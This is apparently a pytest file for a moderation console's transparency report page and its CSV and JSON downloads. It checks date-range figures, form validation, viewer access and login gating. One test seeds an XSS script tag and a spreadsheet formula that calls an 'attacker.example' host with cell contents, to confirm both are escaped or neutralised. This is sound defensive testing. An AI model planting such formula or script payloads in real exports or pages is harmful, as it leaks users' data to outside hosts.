"""The console's transparency report (/ui/report and its CSV and JSON downloads) on SQLite
and PostgreSQL: the figures shown and downloaded are the service's for the period the form
names (whole UTC days, the To day included), hostile labels are text on the page and inert
in the CSV, bad dates re-render the form with the message, and a viewer can read it all."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
import sqlalchemy as sa

from agent.console.app import duration
from agent.model.access import Role
from agent.model.time import utcnow
from agent.model.transparency import Period, TransparencyReport
from agent.store import Store
from agent.store.schema import retractions
from tests.support.api import api_server
from tests.support.console import ConsoleUser, Page
from tests.support.dated import dated_finding, no_event, removed_after

T0 = datetime(2026, 3, 1, tzinfo=UTC)
MARCH = Period(T0, datetime(2026, 4, 1, tzinfo=UTC))
MARCH_QUERY = {"since": "2026-03-01", "until": "2026-03-31"}


class _Figures(HTMLParser):
    """The text of every element with an id, and the rows (cell texts) of every table with one."""

    def __init__(self) -> None:
        super().__init__()
        self.text: dict[str, str] = {}
        self.attrs: dict[str, dict[str, str]] = {}
        self.rows: dict[str, list[list[str]]] = {}
        self._open: list[str | None] = []
        self._table: str | None = None
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {k: v or "" for k, v in attrs}
        ident = values.get("id")
        if tag in ("input", "br", "meta", "link"):  # void elements: never closed
            if ident:
                self.attrs[ident] = values
            return
        self._open.append(ident)
        if ident:
            self.text.setdefault(ident, "")
            self.attrs[ident] = values
        if tag == "table" and ident:
            self._table = ident
            self.rows[ident] = []
        elif tag == "tr" and self._table:
            self.rows[self._table].append([])
        elif tag in ("td", "th") and self._table:
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._table and self._cell is not None:
            self.rows[self._table][-1].append("".join(self._cell).strip())
            self._cell = None
        if tag == "table":
            self._table = None
        if self._open:
            self._open.pop()

    def handle_data(self, data: str) -> None:
        for ident in self._open:
            if ident:
                self.text[ident] += data
        if self._cell is not None:
            self._cell.append(data)


def figures(page: Page) -> _Figures:
    parser = _Figures()
    parser.feed(page.text)
    return parser


async def _march(store: Store) -> None:
    """A month of findings on two lists, reviews of three, two retractions (one of each
    reason), three removals (one of a false positive) and one item still up; plus a finding
    each side of March."""
    a = await dated_finding(store, "a", T0, labels=["csam", "known"])
    b = await dated_finding(store, "b", T0 + timedelta(days=1), labels=["csam"])
    c = await dated_finding(store, "c", T0 + timedelta(days=2))
    await dated_finding(store, "d", T0 + timedelta(days=3), list_name="ncmec", labels=["csam"])
    e = await dated_finding(store, "e", T0 + timedelta(days=4), list_name="ncmec", entry="ncmec:gone")
    # The last microsecond of the To day is in the period; the next day's first is not.
    await dated_finding(store, "last", MARCH.until - timedelta(microseconds=1), labels=["late"])
    await dated_finding(store, "april", MARCH.until, labels=["late"])
    await dated_finding(store, "february", T0 - timedelta(microseconds=1), labels=["csam"])
    await store.reviews.review(a, "confirmed", note=None, reviewer="r1")
    await store.reviews.review(b, "false_positive", note=None, reviewer="r1")
    await store.reviews.review(c, "confirmed", note=None, reviewer="r1")
    assert await store.reviews.retract_entries("ncmec", ["ncmec:gone"], "deleted upstream", no_event) == [e]
    async with store._engine.begin() as conn:
        await conn.execute(sa.update(retractions).values(created_at=T0 + timedelta(days=10)))
    await removed_after(store, "a", T0, timedelta(hours=2))
    await removed_after(store, "b", T0 + timedelta(days=1), timedelta(minutes=5))  # a false positive: not counted
    await removed_after(store, "c", T0 + timedelta(days=2), timedelta(days=3))
    await store.content.set_state("d", "available", first_alert_at=T0, detail={}, follow_up=None)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _without_generated_at(rows: list[list[str]]) -> list[list[str]]:
    return [row for row in rows if row[:4] != ["period", "", "", "generated_at"]]


def _assert_page_shows(page: Page, report: TransparencyReport) -> None:
    shown = figures(page)
    assert shown.text["findings-total"] == str(report.findings_total)
    table = shown.rows["by-list-label"]
    assert table[0] == ["List", "Label", "Findings"]
    expected = [[r.list_name, r.label or "no label", str(r.findings)] for r in report.by_list_label]
    assert table[1:] == expected
    assert shown.text["reviews-confirmed"] == str(report.reviews.confirmed)
    assert shown.text["reviews-false-positive"] == str(report.reviews.false_positive)
    assert shown.text["reviews-unreviewed"] == str(report.reviews.unreviewed)
    assert shown.rows["retractions"][1:] == [
        ["False positive (a reviewer's verdict)", str(report.retractions[0].count)],
        ["List entry deleted upstream", str(report.retractions[1].count)],
    ]
    assert shown.text["removal-removed"] == str(report.removal.removed)
    assert shown.text["removal-still-available"] == str(report.removal.still_available)
    assert shown.text["removal-median"] == duration(report.removal.median_s)
    assert shown.text["removal-p90"] == duration(report.removal.p90_s)


async def test_the_page_and_both_downloads_show_the_services_figures_for_the_days_asked(store: Store) -> None:
    """For 2026-03-01 to 2026-03-31 the page's figures, the CSV and the JSON are the service's
    report of [March 1, April 1): the To day's last finding is in, April's first is not."""
    await _march(store)
    async with api_server(store, console=True) as api:
        expected = await api.services.transparency.report(MARCH)
        assert expected.findings_total == 6 and expected.removal.removed == 2  # the seed is what it says
        async with ConsoleUser.login(api.url, await api.token(Role.INVESTIGATOR, "ana")) as user:
            page = await user.get("/ui/report", **MARCH_QUERY)
            assert page.status == 200
            _assert_page_shows(page, expected)
            shown = figures(page)
            assert shown.attrs["since"]["value"] == "2026-03-01" and shown.attrs["until"]["value"] == "2026-03-31"
            assert "the To day itself is included" in page.text
            csv_link = urlsplit(shown.attrs["download-csv"]["href"])
            json_link = urlsplit(shown.attrs["download-json"]["href"])
            assert csv_link.path == "/ui/report.csv" and json_link.path == "/ui/report.json"
            assert csv_link.query == json_link.query == "since=2026-03-01&until=2026-03-31"

            got_csv = await user.get(f"{csv_link.path}?{csv_link.query}")
            got_json = await user.get(f"{json_link.path}?{json_link.query}")

    assert got_csv.status == 200 and got_csv.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = 'attachment; filename="transparency-report-2026-03-01-to-2026-03-31.csv"'
    assert got_csv.headers["Content-Disposition"] == disposition
    assert _without_generated_at(_rows(got_csv.text)) == _without_generated_at(_rows(expected.to_csv()))
    assert got_json.status == 200 and got_json.headers["Content-Type"].startswith("application/json")
    assert got_json.headers["Content-Disposition"] == disposition.replace(".csv", ".json")
    document, wanted = json.loads(got_json.text), expected.to_json()
    document.pop("generated_at"), wanted.pop("generated_at")
    assert document == wanted
    assert document["period"] == {"since": "2026-03-01T00:00:00Z", "until": "2026-04-01T00:00:00Z"}
    assert got_csv.headers["Cache-Control"] == got_json.headers["Cache-Control"] == "no-store"


async def test_without_dates_the_page_reports_the_last_30_days_up_to_today(store: Store) -> None:
    """The form's defaults span 30 UTC days ending today: a finding made now is counted, one
    made 31 days ago is not."""
    now = utcnow()
    await dated_finding(store, "now", now, labels=["fresh"])
    await dated_finding(store, "old", now - timedelta(days=31), labels=["stale"])
    async with (
        api_server(store, console=True) as api,
        ConsoleUser.login(api.url, await api.token(Role.INVESTIGATOR)) as user,
    ):
        page = await user.get("/ui/report")
    shown = figures(page)
    since = datetime.fromisoformat(shown.attrs["since"]["value"])
    until = datetime.fromisoformat(shown.attrs["until"]["value"])
    assert until - since == timedelta(days=29)
    assert shown.text["findings-total"] == "1"
    assert shown.rows["by-list-label"][1:] == [["tcap", "fresh", "1"]]


HOSTILE = '<script>alert("x")</script>'
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


async def test_a_hostile_label_is_text_on_the_page_and_inert_in_the_csv(store: Store) -> None:
    """A label with markup shows as escaped text (never a tag); a formula-like label and list
    name open in a spreadsheet as plain text (a leading quote) and stay exact in the JSON."""
    await dated_finding(store, "h", T0, labels=[HOSTILE, FORMULA])
    await dated_finding(store, "g", T0, list_name="@SUM(A1:A9)", labels=["plain"])
    async with (
        api_server(store, console=True) as api,
        ConsoleUser.login(api.url, await api.token(Role.INVESTIGATOR)) as user,
    ):
        page = await user.get("/ui/report", **MARCH_QUERY)
        got_csv = await user.get("/ui/report.csv", **MARCH_QUERY)
        got_json = await user.get("/ui/report.json", **MARCH_QUERY)

    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page.text
    assert "<script>alert" not in page.text
    assert {row[1] for row in figures(page).rows["by-list-label"]} >= {HOSTILE, FORMULA}
    labels = [row[1:3] for row in _rows(got_csv.text) if row[0] == "findings_by_list_label"]
    assert ["tcap", HOSTILE] in labels and ["tcap", "'" + FORMULA] in labels and ["'@SUM(A1:A9)", "plain"] in labels
    for row in _rows(got_csv.text):
        assert not row[1].startswith(("=", "+", "-", "@")) and not row[2].startswith(("=", "+", "-", "@"))
    listed = {(r["list"], r["label"]) for r in json.loads(got_json.text)["findings"]["by_list_label"]}
    assert {("tcap", HOSTILE), ("tcap", FORMULA), ("@SUM(A1:A9)", "plain")} == listed


@pytest.mark.parametrize(
    ("since", "until", "message"),
    [
        ("2026-13-01", "2026-03-31", "From must be a date such as 2026-03-01"),
        ("2026-03-01", "next week", "To must be a date such as 2026-03-01"),
        ("20260301", "2026-03-31", "From must be a date such as 2026-03-01"),
        ("2026-03-31", "2026-03-01", "From must be on or before To"),
        ("2000-01-01", "2026-03-31", "the period must be at most 3660 days long"),
        ("2026-03-01", "9999-12-31", "To is out of range"),
        ("2026-03-01", "2" * 40, "until is longer than 32 characters"),
    ],
)
async def test_bad_dates_give_the_form_again_with_the_message(
    store: Store, since: str, until: str, message: str
) -> None:
    """A malformed, impossible, reversed, too long or unrepresentable period re-renders the
    form (422) with the message as an alert and no figures, on the page and for the downloads."""
    async with (
        api_server(store, console=True) as api,
        ConsoleUser.login(api.url, await api.token(Role.INVESTIGATOR)) as user,
    ):
        answers = [await user.get(path, since=since, until=until) for path in ("/ui/report", "/ui/report.csv")]
        answers.append(await user.get("/ui/report.json", since=since, until=until))
    for answer in answers:
        assert answer.status == 422
        assert answer.headers["Content-Type"].startswith("text/html")
        assert "Content-Disposition" not in answer.headers
        shown = figures(answer)
        assert message in (shown.text.get("since-error", "") + shown.text.get("until-error", ""))
        assert 'role="alert"' in answer.text
        assert "findings-total" not in shown.text
        assert shown.attrs["since"]["value"] == since[:32]


async def test_a_viewer_reads_the_report_and_its_downloads(store: Store) -> None:
    """The viewer role (read-only) gets the page and both downloads with the figures."""
    await _march(store)
    async with api_server(store, console=True) as api:
        expected = await api.services.transparency.report(MARCH)
        async with ConsoleUser.login(api.url, await api.token(Role.VIEWER, "vic")) as viewer:
            page = await viewer.get("/ui/report", **MARCH_QUERY)
            got_csv = await viewer.get("/ui/report.csv", **MARCH_QUERY)
            got_json = await viewer.get("/ui/report.json", **MARCH_QUERY)
    assert page.status == got_csv.status == got_json.status == 200
    _assert_page_shows(page, expected)
    assert ["findings", "", "", "total", str(expected.findings_total)] in _rows(got_csv.text)
    assert json.loads(got_json.text)["reviews"] == expected.to_json()["reviews"]


async def test_the_report_and_its_downloads_need_a_login(store: Store) -> None:
    """Logged out, the page and the downloads send to the login form (nothing is served)."""
    await _march(store)
    async with api_server(store, console=True) as api, ConsoleUser.anonymous(api.url) as anonymous:
        for path in ("/ui/report", "/ui/report.csv", "/ui/report.json"):
            page = await anonymous.get(path, **MARCH_QUERY)
            assert urlsplit(page.url).path == "/ui/login", path
            assert "findings_by_list_label" not in page.text and '"by_list_label"' not in page.text
